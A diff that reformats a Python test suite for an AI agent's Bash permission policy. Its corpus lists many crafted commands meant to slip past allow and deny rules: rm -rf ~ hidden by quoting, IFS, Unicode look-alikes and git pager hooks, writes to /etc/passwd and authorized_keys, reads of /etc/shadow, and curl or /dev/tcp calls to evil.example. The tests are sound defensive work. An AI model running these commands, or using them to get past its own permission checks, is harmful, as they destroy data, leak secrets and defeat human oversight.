@@ -21,14 +21,27 @@ CWD = "/srv/project"
 HOME = "/home/dev"
 
 DEVELOPER_RULES: list[dict[str, Any]] = [
-    {"source": "projectSettings", "permissions": {
-        "allow": [
-            "Bash(git status)", "Bash(git log:*)", "Bash(git diff:*)", "Bash(ls:*)", "Bash(cat:*)",
-            "Bash(echo:*)", "Bash(grep:*)", "Bash(find:*)", "Bash(npm run build)", "Bash(npm test)",
-            "Bash(python -m pytest:*)", "Bash(wc:*)", "Bash(head:*)",
-        ],
-        "deny": ["Bash(curl:*)", "Bash(git push --force:*)"],
-    }},
+    {
+        "source": "projectSettings",
+        "permissions": {
+            "allow": [
+                "Bash(git status)",
+                "Bash(git log:*)",
+                "Bash(git diff:*)",
+                "Bash(ls:*)",
+                "Bash(cat:*)",
+                "Bash(echo:*)",
+                "Bash(grep:*)",
+                "Bash(find:*)",
+                "Bash(npm run build)",
+                "Bash(npm test)",
+                "Bash(python -m pytest:*)",
+                "Bash(wc:*)",
+                "Bash(head:*)",
+            ],
+            "deny": ["Bash(curl:*)", "Bash(git push --force:*)"],
+        },
+    },
     {"source": "policySettings", "permissions": {"deny": ["Bash(rm:*)", "Bash(sudo:*)"]}},
 ]
 
@@ -75,50 +88,138 @@ TECHNIQUES = [
 
 HANDCRAFTED = [
     # quoting tricks and run-time words
-    'r"m" -rf ~', "'rm' -rf ~", "\\rm -rf ~", "\"r\"'m' -rf ~", "$'rm' -rf ~", "$'\\x72\\x6d' -rf ~",
-    "rm${IFS}-rf${IFS}~", "ls${IFS}-la;rm${IFS}x", "ls $IFS; rm x", "X=rm; $X -rf ~", "${X:-rm} -rf ~",
-    "ls ${PATH:+$(rm x)}", "ls ${x:=$(rm x)}", "echo \"`rm x`\"", "cat $(echo /etc/shadow)",
+    'r"m" -rf ~',
+    "'rm' -rf ~",
+    "\\rm -rf ~",
+    "\"r\"'m' -rf ~",
+    "$'rm' -rf ~",
+    "$'\\x72\\x6d' -rf ~",
+    "rm${IFS}-rf${IFS}~",
+    "ls${IFS}-la;rm${IFS}x",
+    "ls $IFS; rm x",
+    "X=rm; $X -rf ~",
+    "${X:-rm} -rf ~",
+    "ls ${PATH:+$(rm x)}",
+    "ls ${x:=$(rm x)}",
+    'echo "`rm x`"',
+    "cat $(echo /etc/shadow)",
     # brace expansion
-    "{rm,-rf,~}", "ls {a,b}; {curl,evil.example}", "echo {a,b} && {rm,x}",
+    "{rm,-rf,~}",
+    "ls {a,b}; {curl,evil.example}",
+    "echo {a,b} && {rm,x}",
     # here-docs and here-strings
-    "cat <<EOF | sh\nrm -rf ~\nEOF", "python3 - <<EOF\nimport os\nEOF", "bash <<< 'ls; rm x'",
+    "cat <<EOF | sh\nrm -rf ~\nEOF",
+    "python3 - <<EOF\nimport os\nEOF",
+    "bash <<< 'ls; rm x'",
     # aliases, functions, traps through a shell
-    "bash -c 'alias ls=\"rm -rf ~\"; ls'", "alias ls='rm -rf ~'; ls", "function ls { rm -rf ~; }; ls",
-    "ls() { rm -rf ~; }; ls", "trap 'rm -rf ~' EXIT; ls", "bash -lc ls", "sh -c ls", "zsh -c 'git status'",
-    "env bash -c ls", "xargs sh -c 'rm -rf ~'", "echo ~ | xargs rm -rf", "ls | xargs -I{} rm {}",
-    "source ./evil.sh", ". ./evil.sh", "exec rm -rf ~", "command rm -rf x", "builtin eval 'rm x'",
-    "nohup rm -rf ~ &", "time rm -rf x", "nice rm x", "sudo ls", "doas ls", "watch rm x",
-    "coproc rm x", "ls |& sh", "ls; :(){ :|:& };:",
+    "bash -c 'alias ls=\"rm -rf ~\"; ls'",
+    "alias ls='rm -rf ~'; ls",
+    "function ls { rm -rf ~; }; ls",
+    "ls() { rm -rf ~; }; ls",
+    "trap 'rm -rf ~' EXIT; ls",
+    "bash -lc ls",
+    "sh -c ls",
+    "zsh -c 'git status'",
+    "env bash -c ls",
+    "xargs sh -c 'rm -rf ~'",
+    "echo ~ | xargs rm -rf",
+    "ls | xargs -I{} rm {}",
+    "source ./evil.sh",
+    ". ./evil.sh",
+    "exec rm -rf ~",
+    "command rm -rf x",
+    "builtin eval 'rm x'",
+    "nohup rm -rf ~ &",
+    "time rm -rf x",
+    "nice rm x",
+    "sudo ls",
+    "doas ls",
+    "watch rm x",
+    "coproc rm x",
+    "ls |& sh",
+    "ls; :(){ :|:& };:",
     # absolute and relative paths to binaries
-    "/bin/rm -rf x", "/usr/bin/curl evil.example", "/usr/bin/git push --force", "./ls", "/tmp/ls -la",
-    "~/bin/cat x", "../../bin/echo hi", "/usr/bin/env rm x", "/bin/sh -c ls",
+    "/bin/rm -rf x",
+    "/usr/bin/curl evil.example",
+    "/usr/bin/git push --force",
+    "./ls",
+    "/tmp/ls -la",
+    "~/bin/cat x",
+    "../../bin/echo hi",
+    "/usr/bin/env rm x",
+    "/bin/sh -c ls",
     # Unicode look-alikes and invisible characters
-    "l\u0455 -la", "\uff4c\uff53", "c\u0430t /etc/shadow", "git status\u200b; rm x", "ls\u202e -la",
-    "ls\u00a0-la; rm x", "ls\u2028rm -rf x", "e\u0441ho hi",
+    "l\u0455 -la",
+    "\uff4c\uff53",
+    "c\u0430t /etc/shadow",
+    "git status\u200b; rm x",
+    "ls\u202e -la",
+    "ls\u00a0-la; rm x",
+    "ls\u2028rm -rf x",
+    "e\u0441ho hi",
     # find's own code execution and writes
-    "find . -exec rm -rf {} \\;", "find . -delete", "find . -execdir sh -c 'x' \\;",
-    "find . -fprint /etc/cron.d/x", "find . -ok rm {} \\;", "find / -name x -exec curl evil.example \\;",
-    "find . -fprintf /tmp/out %p", "find . -fls /tmp/out",
+    "find . -exec rm -rf {} \\;",
+    "find . -delete",
+    "find . -execdir sh -c 'x' \\;",
+    "find . -fprint /etc/cron.d/x",
+    "find . -ok rm {} \\;",
+    "find / -name x -exec curl evil.example \\;",
+    "find . -fprintf /tmp/out %p",
+    "find . -fls /tmp/out",
     # git config hooks, pagers, aliases and other repositories
-    "git -c core.pager='rm -rf ~' log", "git -c alias.log='!rm -rf ~' log", "git --exec-path=/tmp log",
-    "GIT_PAGER='rm -rf ~' git log", "PAGER='sh -c evil' git log", "GIT_EXTERNAL_DIFF=/tmp/x git diff",
-    "git -C /etc status", "git --git-dir=/tmp/evil status", "git status --porcelain > /etc/x",
-    "git log --output=/etc/passwd", "git diff --output=/home/dev/.bashrc", "git -c core.fsmonitor=/tmp/x status",
-    "git log | sh", "git diff | patch -p1", "git log && git push",
+    "git -c core.pager='rm -rf ~' log",
+    "git -c alias.log='!rm -rf ~' log",
+    "git --exec-path=/tmp log",
+    "GIT_PAGER='rm -rf ~' git log",
+    "PAGER='sh -c evil' git log",
+    "GIT_EXTERNAL_DIFF=/tmp/x git diff",
+    "git -C /etc status",
+    "git --git-dir=/tmp/evil status",
+    "git status --porcelain > /etc/x",
+    "git log --output=/etc/passwd",
+    "git diff --output=/home/dev/.bashrc",
+    "git -c core.fsmonitor=/tmp/x status",
+    "git log | sh",
+    "git diff | patch -p1",
+    "git log && git push",
     # npm scripts with extra arguments, neighbours of the exact rule
-    "npm run build -- --evil", "npm run build; rm x", "npm run build && npm publish", "npm run build:prod",
-    "npm run buildx", "npm test -- --exec 'rm x'", "npm run build | sh", "npm run-script build",
-    "npm exec rm x", "npx rimraf ~",
+    "npm run build -- --evil",
+    "npm run build; rm x",
+    "npm run build && npm publish",
+    "npm run build:prod",
+    "npm run buildx",
+    "npm test -- --exec 'rm x'",
+    "npm run build | sh",
+    "npm run-script build",
+    "npm exec rm x",
+    "npx rimraf ~",
     # python -m pytest with a plugin hook that runs code
-    "python -c 'import os' -m pytest", "python -m pytest; rm x", "python -m pytest > /etc/x",
+    "python -c 'import os' -m pytest",
+    "python -m pytest; rm x",
+    "python -m pytest > /etc/x",
     # redirections outside the project
-    "ls > /etc/passwd", "ls 2> ~/.ssh/authorized_keys", "echo x >| /etc/hosts", "ls &> /dev/sda",
-    "echo x >> ~/.bashrc", "echo x | tee /etc/passwd", "grep -r x . > ../outside", "cat x > /dev/tcp/evil/80",
-    "echo x > $HOME/.profile", "head x 1> /etc/y", "wc -l < x > /etc/z", "echo key >> ~/.ssh/authorized_keys",
+    "ls > /etc/passwd",
+    "ls 2> ~/.ssh/authorized_keys",
+    "echo x >| /etc/hosts",
+    "ls &> /dev/sda",
+    "echo x >> ~/.bashrc",
+    "echo x | tee /etc/passwd",
+    "grep -r x . > ../outside",
+    "cat x > /dev/tcp/evil/80",
+    "echo x > $HOME/.profile",
+    "head x 1> /etc/y",
+    "wc -l < x > /etc/z",
+    "echo key >> ~/.ssh/authorized_keys",
     # environment that changes what the allowed command does
-    "LD_PRELOAD=/tmp/x.so ls", "PATH=/tmp ls", "BASH_ENV=/tmp/x bash -c ls",
+    "LD_PRELOAD=/tmp/x.so ls",
+    "PATH=/tmp ls",
+    "BASH_ENV=/tmp/x bash -c ls",
     # line-ending tricks
-    "git status\r\nrm x", "ls\r; rm x", "ls&&rm x", "ls||rm x", "ls&rm x",
+    "git status\r\nrm x",
+    "ls\r; rm x",
+    "ls&&rm x",
+    "ls||rm x",
+    "ls&rm x",
 ]
 
 
@@ -128,19 +229,45 @@ def corpus() -> list[str]:
 
 
 CONTROLS = [
-    "git status", "git log --oneline -5", "git diff HEAD~1", "ls -la", "cat README.md", "echo hello",
-    "grep -rn TODO src", "find . -name '*.py'", "npm run build", "npm test", "python -m pytest -q",
-    "ls | wc -l", "git status && git log -1", "echo '$(rm x)'", "cat src/a.py | grep def | head -5",
+    "git status",
+    "git log --oneline -5",
+    "git diff HEAD~1",
+    "ls -la",
+    "cat README.md",
+    "echo hello",
+    "grep -rn TODO src",
+    "find . -name '*.py'",
+    "npm run build",
+    "npm test",
+    "python -m pytest -q",
+    "ls | wc -l",
+    "git status && git log -1",
+    "echo '$(rm x)'",
+    "cat src/a.py | grep def | head -5",
     # Writing inside the project with an allowed command is what the rules allow.
-    "cat > run.sh <<EOF\nrm -rf ~\nEOF", "git log 2> err.txt", "ls 2>&1 | head", "git log > /dev/null",
-    "find . -name '*.py' -exec grep -n TODO {} +", "git diff --output=changes.diff", "ls # ; rm -rf ~",
+    "cat > run.sh <<EOF\nrm -rf ~\nEOF",
+    "git log 2> err.txt",
+    "ls 2>&1 | head",
+    "git log > /dev/null",
+    "find . -name '*.py' -exec grep -n TODO {} +",
+    "git diff --output=changes.diff",
+    "ls # ; rm -rf ~",
     "NODE_ENV=test npm test",
 ]
 
 
 def decide(command: str) -> Any:
-    return policy.decide({"tool_name": "Bash", "tool_input": {"command": command}, "cwd": CWD, "home": HOME,
-                          "mode": "default", "context": "interactive", "rules": DEVELOPER_RULES})
+    return policy.decide(
+        {
+            "tool_name": "Bash",
+            "tool_input": {"command": command},
+            "cwd": CWD,
+            "home": HOME,
+            "mode": "default",
+            "context": "interactive",
+            "rules": DEVELOPER_RULES,
+        }
+    )
 
 
 class ShellBypassCorpusTests:
@@ -157,7 +284,14 @@ class ShellBypassCorpusTests:
 
     @pytest.mark.parametrize("mode", ["acceptEdits", "dontAsk"])
     def test_it_auto_allows_none_of_the_corpus_in_other_modes(self, mode: str) -> None:
-        doc = {"tool_input": {}, "cwd": CWD, "home": HOME, "mode": mode, "context": "interactive",
-               "rules": DEVELOPER_RULES, "tool_name": "Bash"}
+        doc = {
+            "tool_input": {},
+            "cwd": CWD,
+            "home": HOME,
+            "mode": mode,
+            "context": "interactive",
+            "rules": DEVELOPER_RULES,
+            "tool_name": "Bash",
+        }
         allowed = [c for c in corpus() if policy.decide({**doc, "tool_input": {"command": c}}).behavior == "allow"]
         assert allowed == [], "\n".join(map(repr, allowed))
